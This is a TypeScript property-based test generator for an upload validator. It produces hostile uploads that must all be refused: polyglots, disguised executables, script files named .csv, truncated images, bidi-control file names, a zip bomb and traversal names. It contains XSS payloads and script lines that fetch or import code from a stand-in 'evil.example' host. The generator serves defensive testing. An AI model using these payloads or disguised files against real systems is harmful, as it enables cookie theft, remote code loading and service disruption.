/**
 * Generated hostile uploads (issue 11, defect 10): polyglots, renamed executables, markup and
 * script named .csv, truncated "images" and "PDFs", bidi-control names, zip bombs and packages
 * that are no workbook — every one of them must be refused.
 */
import fc from "fast-check";
import { EXE_BYTES, HTML_BYTES, PDF_BYTES, PNG_BYTES } from "./evidence-files";
import { sheetWithRows, zipPackage } from "./zip";

type HostileUpload = { kind: string; name: string; bytes: Uint8Array };

const text = (value: string) => new TextEncoder().encode(value);
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

const SVG = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const SCRIPTS = ["alert(document.cookie)", "function f(){return 1}", "const x = require('fs');", "(() => fetch('//evil.example'))()", "import('//evil.example/x.js')", "window.location='//evil.example'"];
const BOMB = zipPackage([{ name: "xl/worksheets/sheet1.xml", content: new Uint8Array(200 * 1024 * 1024) }]);
const ZIP_NOT_WORKBOOK = zipPackage([{ name: "readme.txt", content: "hello" }]);
const MANY_ROWS = zipPackage([
  { name: "[Content_Types].xml", content: "<Types/>" },
  { name: "xl/workbook.xml", content: "<workbook/>" },
  { name: "xl/worksheets/sheet1.xml", content: sheetWithRows(1_048_577) },
]);

const stem = fc.stringMatching(/^[A-Za-z0-9 _-]{1,12}$/);
const allowed = fc.constantFrom("pdf", "png", "jpg", "jpeg", "xlsx", "csv", "PDF", "Jpg");
const bidi = fc.constantFrom("\u202E", "\u202D", "\u2066", "\u2067", "\u200F", "\u061C");

export const hostileUpload: fc.Arbitrary<HostileUpload> = fc.oneof(
  fc.tuple(stem, fc.constantFrom("html", "htm", "svg", "xhtml")).map(([name, ext]) => ({ kind: "polyglot", name: `${name}.${ext}`, bytes: concat(PDF_BYTES, HTML_BYTES) })),
  fc.tuple(stem, fc.constantFrom("pdf.exe", "exe", "js", "bat", "pdf.scr", "jpg.com")).map(([name, ext]) => ({ kind: "executable", name: `${name}.${ext}`, bytes: EXE_BYTES })),
  fc.tuple(stem, fc.constantFrom(HTML_BYTES, SVG, ...SCRIPTS.map(text))).map(([name, bytes]) => ({ kind: "markup-as-csv", name: `${name}.csv`, bytes })),
  fc.tuple(stem, fc.constantFrom("jpg", "jpeg"), fc.integer({ min: 2, max: 6 })).map(([name, ext, size]) => ({ kind: "short-jpeg", name: `${name}.${ext}`, bytes: concat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]).subarray(0, size)) })),
  fc.tuple(stem, fc.integer({ min: 3, max: 12 })).map(([name, size]) => ({ kind: "short-pdf", name: `${name}.pdf`, bytes: text("%PDF-1.7\n%%EOF").subarray(0, size) })),
  fc.tuple(stem, fc.integer({ min: 8, max: 40 })).map(([name, size]) => ({ kind: "truncated-png", name: `${name}.png`, bytes: PNG_BYTES.subarray(0, size) })),
  fc.tuple(stem, allowed, fc.uint8Array({ minLength: 1, maxLength: 512 })).map(([name, ext, bytes]) => ({ kind: "random-bytes", name: `${name}.${ext}`, bytes: concat(new Uint8Array([0x01]), bytes) })),
  fc.tuple(stem, bidi, fc.constantFrom("fdp.exe", "gpj.html", "xslx.js", "vsc.pdf")).map(([name, control, tail]) => ({ kind: "bidi-name", name: `${name}${control}${tail}`, bytes: PDF_BYTES })),
  fc.tuple(stem, bidi).map(([name, control]) => ({ kind: "bidi-name-valid-pdf", name: `${name}${control}.pdf`, bytes: PDF_BYTES })),
  fc.tuple(stem, fc.constantFrom("pdf", "png", "csv", "jpg")).map(([name, ext]) => ({ kind: "mismatch", name: `${name}.${ext}`, bytes: ext === "png" ? PDF_BYTES : PNG_BYTES })),
  fc.tuple(stem, fc.constantFrom(BOMB, ZIP_NOT_WORKBOOK, MANY_ROWS)).map(([name, bytes]) => ({ kind: "bad-workbook", name: `${name}.xlsx`, bytes })),
  fc.tuple(fc.constantFrom(".pdf", "noextension", "report.", "report.pdf.", "a/b/..", "..", "report.p df"), fc.constant(PDF_BYTES)).map(([name, bytes]) => ({ kind: "bad-name", name, bytes })),
);
